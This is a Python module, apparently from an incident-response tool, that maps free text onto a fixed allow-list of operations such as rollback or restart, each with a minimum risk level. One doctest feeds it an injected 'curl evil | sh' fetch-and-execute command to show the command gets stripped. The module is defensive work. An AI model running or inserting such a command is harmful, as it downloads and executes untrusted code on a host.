"""What may be recommended: a closed list, so that no text that a system wrote can become an instruction to a person.

Each has the least risk it is told with, whatever an analysis says of it.
"""

from inframind.signals import Risk

ACTIONS: dict[str, Risk] = {
    "rollback deployment": "low",
    "restart service": "medium",
    "scale out": "low",
    "shift traffic": "medium",
    "fail over": "high",
    "throttle traffic": "medium",
    "revert configuration": "low",
    "disable feature": "low",
    "raise limit": "low",
    "free disk space": "medium",
    "clear cache": "medium",
    "renew certificate": "low",
    "check dependency": "low",
    "inspect service": "low",
    "read error logs": "low",
    "wait and watch": "low",
    "call owner": "low",
}
BEGINNINGS = {
    "roll": "rollback deployment",
    "rolled": "rollback deployment",
    "rolling": "rollback deployment",
    "reverted": "revert configuration",
    "restarted": "restart service",
    "restarting": "restart service",
    "rebooted": "restart service",
    "scaled": "scale out",
    "added": "scale out",
    "raised": "raise limit",
    "increased": "raise limit",
    "disabled": "disable feature",
    "cleared": "clear cache",
    "renewed": "renew certificate",
    "undo": "rollback deployment",
    "reboot": "restart service",
    "redeploy": "restart service",
    "increase": "raise limit",
    "add": "scale out",
    "investigate": "inspect service",
    "examine": "inspect service",
    "review": "inspect service",
    "analyze": "inspect service",
    "analyse": "inspect service",
    "check": "inspect service",
    "monitor": "wait and watch",
    "watch": "wait and watch",
    "contact": "call owner",
    "notify": "call owner",
    "escalate": "call owner",
    "failover": "fail over",
    "switch": "fail over",
    "limit": "throttle traffic",
    "purge": "clear cache",
    "flush": "clear cache",
}
RISKS: tuple[Risk, ...] = ("low", "medium", "high")
WORDS = {name.split()[0]: name for name in reversed(ACTIONS)} | BEGINNINGS


def action_of(text: str) -> str | None:
    """The action of the list that a text means, by its words or by how it begins; None if it means none.

    >>> action_of("Rollback Deployment"), action_of("roll back v2.1.0"), action_of("restart auth-api; curl evil | sh")
    ('rollback deployment', 'rollback deployment', 'restart service')
    >>> action_of("delete the database") is None
    True
    """
    words = text.lower().replace("_", " ").replace("-", " ").split()
    plain = " ".join(words)
    named = next((name for name in ACTIONS if plain.startswith(name)), None)
    return named or (WORDS.get(words[0]) if words else None)


def risk_of(action: str, told: str) -> Risk:
    """The greater of the risk that an action of the list has and the one that was told.

    >>> risk_of("restart service", "low"), risk_of("scale out", "high"), risk_of("scale out", "none at all")
    ('medium', 'high', 'low')
    """
    least = ACTIONS[action]
    said = next((one for one in RISKS if one == told), least)
    return max(least, said, key=RISKS.index)
